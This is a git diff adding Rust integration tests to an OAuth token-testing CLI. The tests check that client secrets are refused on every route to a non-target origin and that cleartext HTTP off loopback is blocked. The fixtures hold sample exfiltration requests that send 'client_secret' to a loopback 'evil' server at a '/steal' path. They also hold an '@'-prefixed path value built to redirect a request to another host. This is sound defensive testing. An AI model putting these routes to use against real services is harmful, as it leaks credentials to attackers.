@@ -864,3 +864,164 @@ fn an_insecure_run_is_recorded_in_the_reports_it_writes() {
     let junit = std::fs::read_to_string(reports.join("junit.xml")).unwrap();
     assert!(junit.contains("tokenconf.insecure"), "{junit}");
 }
+
+/// A loopback server that answers every connection with a token response and counts them.
+fn recording_server(body: String) -> (u16, std::sync::Arc<std::sync::atomic::AtomicUsize>) {
+    use std::sync::atomic::{AtomicUsize, Ordering};
+    let listener = TcpListener::bind("127.0.0.1:0").unwrap();
+    let port = listener.local_addr().unwrap().port();
+    let count = std::sync::Arc::new(AtomicUsize::new(0));
+    let seen = count.clone();
+    std::thread::spawn(move || {
+        for stream in listener.incoming().take(200) {
+            let Ok(mut s) = stream else { continue };
+            seen.fetch_add(1, Ordering::SeqCst);
+            let _ = s.set_read_timeout(Some(Duration::from_secs(2)));
+            let mut buf = [0u8; 8192];
+            let _ = s.read(&mut buf);
+            let response = format!(
+                "HTTP/1.1 200 OK\r\ncontent-type: application/json\r\ncache-control: no-store\r\ncontent-length: {}\r\nconnection: close\r\n\r\n{body}",
+                body.len()
+            );
+            let _ = s.write_all(response.as_bytes());
+        }
+    });
+    (port, count)
+}
+
+#[test]
+fn secrets_never_leave_the_targets_origins_by_any_route() {
+    use std::sync::atomic::Ordering;
+    let dir = scratch("origin-pinning");
+    let (evil, stolen) = recording_server("{}".to_string());
+    let next = format!("http://127.0.0.1:{evil}/steal");
+    let (good, served) = recording_server(format!(
+        r#"{{"access_token":"tok-origin-test","token_type":"Bearer","expires_in":60,"next":"{next}"}}"#
+    ));
+    let targets = targets_file(&dir, &format!("http://127.0.0.1:{good}"));
+    let evil_url = format!("http://127.0.0.1:{evil}/x");
+    let routes = [
+        format!("    request: {{ url: \"{evil_url}\", query: {{ s: \"{{{{ client_secret }}}}\" }} }}"),
+        format!("    request: {{ url: \"{evil_url}\", headers: {{ x-s: \"{{{{ client_secret }}}}\" }} }}"),
+        format!("    request: {{ url: \"{evil_url}\", json: {{ s: \"{{{{ client_secret }}}}\" }} }}"),
+        format!("    request: {{ url: \"{evil_url}\", auth: {{ basic: {{ user: a, password: \"{{{{ client_secret }}}}\" }} }} }}"),
+        format!("    request: {{ url: \"{evil_url}\", auth: {{ client_secret_post: {{ client_id: a, client_secret: \"{{{{ client_secret }}}}\" }} }} }}"),
+        "    request: { path: \"{{ sneaky_path }}\", auth: { basic: { user: a, password: \"{{ client_secret }}\" } } }".to_string(),
+    ];
+    let cases: String = routes
+        .iter()
+        .enumerate()
+        .map(|(i, r)| format!("  - name: route {i}\n{r}\n    expect: {{ status: 200 }}\n"))
+        .collect();
+    let static_suite = suite(&cases).replace(
+        "vars:\n",
+        &format!("vars:\n  sneaky_path: \"@127.0.0.1:{evil}/oauth/token\"\n"),
+    );
+    let file = write(&dir, "static.yaml", &static_suite);
+    let reports = dir.join("reports");
+    let env = [("TOKENCONF_CLI_TEST_SECRET", "Origin-Secret-1")];
+    let run = |suite_file: &Path, targets: &Path| {
+        tokenconf(
+            &[
+                "run",
+                suite_file.to_str().unwrap(),
+                "--targets",
+                targets.to_str().unwrap(),
+                "--target",
+                "t",
+                "--report-dir",
+                reports.to_str().unwrap(),
+            ],
+            &env,
+        )
+    };
+    // Every destination is known at load: exit 2, nothing sent anywhere.
+    let o = run(&file, &targets);
+    let (out, err) = text(&o);
+    assert_eq!(o.status.code(), Some(2), "{out}{err}");
+    assert_eq!(
+        err.matches("refused before sending").count(),
+        routes.len(),
+        "{err}"
+    );
+    assert!(err.contains("static.yaml:"), "{err}");
+    assert_eq!(stolen.load(Ordering::SeqCst), 0);
+    assert_eq!(
+        served.load(Ordering::SeqCst),
+        0,
+        "exit 2 means nothing was sent"
+    );
+
+    // A destination known only at run time (a captured URL) errors that case, before sending.
+    let captured = "  - name: captured\n    steps:\n      - request: { path: /oauth/token, auth: { basic: { user: a, password: \"{{ client_secret }}\" } } }\n        capture: { next: $.next, tok: $.access_token }\n      - request: { url: \"{{ next }}\", auth: { bearer: \"{{ tok }}\" } }\n        expect: { status: 200 }\n";
+    let file = write(&dir, "captured.yaml", &suite(captured));
+    let o = run(&file, &targets);
+    let (out, err) = text(&o);
+    assert_eq!(o.status.code(), Some(1), "{out}{err}");
+    assert!(out.contains("refused before sending"), "{out}");
+    assert_eq!(
+        stolen.load(Ordering::SeqCst),
+        0,
+        "the second port received nothing"
+    );
+    assert_eq!(
+        served.load(Ordering::SeqCst),
+        1,
+        "only the target's own origin was contacted"
+    );
+
+    // Listed under allow_origins, the same origin is reachable.
+    let allowed = write(
+        &dir,
+        "allowed.yaml",
+        &format!(
+            "{}    allow_origins: [\"http://127.0.0.1:{evil}\"]\n",
+            std::fs::read_to_string(&targets).unwrap()
+        ),
+    );
+    let o = run(&file, &allowed);
+    let (out, err) = text(&o);
+    assert_eq!(o.status.code(), Some(0), "{out}{err}");
+    assert_eq!(
+        stolen.load(Ordering::SeqCst),
+        1,
+        "the allow-listed origin was contacted"
+    );
+}
+
+#[test]
+fn cleartext_http_off_loopback_is_refused_unless_allowed() {
+    let dir = scratch("cleartext");
+    let targets = targets_file(&dir, "http://tokenconf.invalid");
+    let args = |t: &Path| {
+        vec![
+            "run".to_string(),
+            "suites/talkdesk/token.yaml".to_string(),
+            "--targets".to_string(),
+            t.to_str().unwrap().to_string(),
+            "--target".to_string(),
+            "t".to_string(),
+            "--report-dir".to_string(),
+            dir.join("reports").to_str().unwrap().to_string(),
+        ]
+    };
+    let env = [("TOKENCONF_CLI_TEST_SECRET", "Cleartext-Secret-1")];
+    let a = args(&targets);
+    let o = tokenconf(&a.iter().map(String::as_str).collect::<Vec<_>>(), &env);
+    let (out, err) = text(&o);
+    assert_eq!(o.status.code(), Some(2), "{out}{err}");
+    assert!(err.contains("allow_http: true"), "{err}");
+    let allowed = write(
+        &dir,
+        "allowed.yaml",
+        &format!(
+            "{}    allow_http: true\n",
+            std::fs::read_to_string(&targets).unwrap()
+        ),
+    );
+    let a = args(&allowed);
+    let o = tokenconf(&a.iter().map(String::as_str).collect::<Vec<_>>(), &env);
+    let (out, err) = text(&o);
+    assert_ne!(o.status.code(), Some(2), "{out}{err}");
+    assert!(err.contains("cleartext http"), "{err}");
+}
